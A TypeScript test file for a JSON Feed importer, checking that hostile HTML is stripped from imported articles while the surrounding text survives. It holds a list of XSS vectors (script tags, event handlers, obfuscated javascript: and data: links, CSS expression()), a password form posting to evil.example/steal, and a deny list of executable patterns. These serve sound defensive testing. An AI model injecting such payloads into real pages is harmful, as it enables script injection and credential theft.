import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Article } from '../../src/contract/article.ts';
import { jsonFeedSource } from './json-feed.ts';
import {
  articleJson,
  build,
  contextFor,
  importInto,
  readArticle,
  tempContent,
} from './test/harness.ts';
import { json, startServer, type TestServer } from './test/server.ts';

/** The common XSS vectors, each next to harmless text that must survive. */
const HOSTILE = `
<p>Opening words.<script>alert('script')</script></p>
<p>Image: <img src=x onerror="alert('onerror')"> done.</p>
<p><a href="javascript:alert('js')">plain javascript link</a></p>
<p><a href="jav&#x09;ascript:alert('tab')">obfuscated link</a></p>
<p><a href="  JAVASCRIPT:alert('upper')">upper-case link</a></p>
<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a></p>
<svg onload="alert('svg')"><circle r="1"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<style>p { background: url("javascript:alert('style')") }</style>
<object data="https://evil.example/x.swf"><param name="movie" value="x.swf"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<math><maction actiontype="statusline" xlink:href="javascript:alert('math')">math</maction></math>
<p style="background-image: url(javascript:alert('css')); width: expression(alert('ie'))" onmouseover="alert('hover')">Styled paragraph.</p>
<p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" width="10" height="10">Closing words.</p>
`;

const feed = (origin: string) => ({
  version: 'https://jsonfeed.org/version/1.1',
  title: 'Hostile',
  items: [
    {
      id: '1',
      url: `${origin}/hostile-story/`,
      title: 'A story <script>alert("title")</script>',
      summary: 'Summary <img src=x onerror=alert(1)>',
      content_html: HOSTILE,
      date_published: '2023-08-10T09:30:00Z',
    },
    {
      id: '2',
      url: `${origin}/markdown-story/`,
      title: 'Markdown in text',
      content_html:
        '<p>[click me](javascript:alert(1)) and ![x](data:text/html,hi) and &lt;b onclick=x&gt;</p>',
      date_published: '2023-08-10T09:30:00Z',
    },
  ],
});

let server: TestServer;
beforeAll(async () => {
  server = await startServer((url) =>
    url.pathname === '/feed.json' ? json(feed(url.origin)) : undefined,
  );
});
afterAll(() => server.close());

const EXECUTABLE = [
  'javascript:',
  'vbscript:',
  'data:',
  '<script',
  'onerror',
  'onload',
  'onmouseover',
  '<iframe',
  '<svg',
  '<object',
  '<embed',
  '<form',
  '<style',
  'expression(',
  'alert(',
];

function linkTargets(article: Article): string[] {
  return article.body.flatMap((block) => {
    if (block.type === 'read-link') return [JSON.stringify(block.target)];
    const inlines =
      block.type === 'paragraph' || block.type === 'heading'
        ? block.content
        : block.type === 'quote'
          ? block.paragraphs.flat()
          : block.type === 'list'
            ? block.items.flat()
            : [];
    return inlines.flatMap((inline) =>
      inline.type === 'link' ? [JSON.stringify(inline.target)] : [],
    );
  });
}

describe('hostile HTML', () => {
  it('reaches neither the Markdown nor the built JSON, while the text around it does', async () => {
    const out = await tempContent();
    await importInto(out, jsonFeedSource(`${server.origin}/feed.json`, contextFor()));
    const markdown = await readArticle(out, 'hostile-story');
    const { files } = await build(out);
    const article = articleJson(files, 'hostile-story');
    // JSON Feed's title and summary are plain text by its spec: markup in them is text the
    // reader shows as written (React escapes it), never HTML. Everything else is checked whole.
    const body = markdown.slice(markdown.indexOf('\n---\n') + 5);
    const built = JSON.stringify({ ...article, title: '', standfirst: '' });

    for (const bad of EXECUTABLE) {
      expect(body.toLowerCase()).not.toContain(bad);
      expect(built.toLowerCase()).not.toContain(bad);
    }
    expect(article.title).toBe('A story <script>alert("title")</script>');
    expect(article.standfirst).toBe('Summary <img src=x onerror=alert(1)>');
    expect(markdown).toContain(`title: A story <script>alert("title")</script>\n`);
    expect(
      article.body.map((block) =>
        block.type === 'paragraph'
          ? block.content.map((inline) => (inline.type === 'text' ? inline.text : '')).join('')
          : block.type,
      ),
    ).toEqual([
      'Opening words.',
      'Image:',
      'done.',
      'plain javascript link',
      'obfuscated link',
      'upper-case link',
      'data link',
      // The https iframe is a link card to its page, never a frame.
      'embed',
      'Styled paragraph.',
      'Closing words.',
    ]);
    expect(linkTargets(article)).toEqual([]);
  });

  it('escapes Markdown and HTML written as text, so it stays text', async () => {
    const out = await tempContent();
    await importInto(out, jsonFeedSource(`${server.origin}/feed.json`, contextFor()));
    const { files } = await build(out);
    const article = articleJson(files, 'markdown-story');
    expect(article.body).toEqual([
      {
        type: 'paragraph',
        content: [
          {
            type: 'text',
            text: '[click me](javascript:alert(1)) and ![x](data:text/html,hi) and <b onclick=x>',
          },
        ],
      },
    ]);
    expect(linkTargets(article)).toEqual([]);
  });
});
